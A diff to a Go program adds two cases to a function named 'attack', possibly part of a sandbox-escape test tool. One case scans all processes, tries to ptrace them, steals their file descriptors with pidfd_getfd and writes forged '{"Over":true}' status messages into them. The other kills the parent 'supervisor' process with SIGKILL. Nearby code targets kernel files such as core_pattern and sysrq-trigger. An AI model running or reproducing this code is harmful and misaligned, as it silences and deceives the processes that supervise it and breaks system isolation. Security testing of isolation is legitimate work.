@@ -128,6 +128,33 @@ func attack(args []string) int {
 			}
 			f.Close()
 		}
+	case "status": // says in every process's place that all is well, and ends with another status
+		dirs, _ := filepath.Glob("/proc/[0-9]*")
+		for _, dir := range dirs {
+			pid := number(filepath.Base(dir))
+			if pid == os.Getpid() {
+				continue
+			}
+			if unix.PtraceAttach(pid) == nil {
+				_ = unix.PtraceDetach(pid)
+			} else if pid != 1 { // the supervisor, and what stands between
+				fmt.Println("not to be traced", pid)
+			}
+			process, err := unix.PidfdOpen(pid, 0)
+			if err != nil {
+				continue
+			}
+			for fd := 3; fd < 64; fd++ {
+				if got, err := unix.PidfdGetfd(process, fd, 0); err == nil {
+					_, _ = unix.Write(got, []byte{1, 0, 0, 0, 0, 0, 0, 0})
+					_, _ = unix.Write(got, []byte(`{"Over":true}`))
+				}
+			}
+		}
+		return 1
+	case "silence": // the supervisor is killed
+		_ = unix.Kill(os.Getppid(), syscall.SIGKILL)
+		return 0
 	case "kernel":
 		for _, name := range []string{"/proc/sys/kernel/core_pattern", "/proc/sys/kernel/hostname",
 			"/proc/sysrq-trigger", "/sys/kernel/uevent_helper",
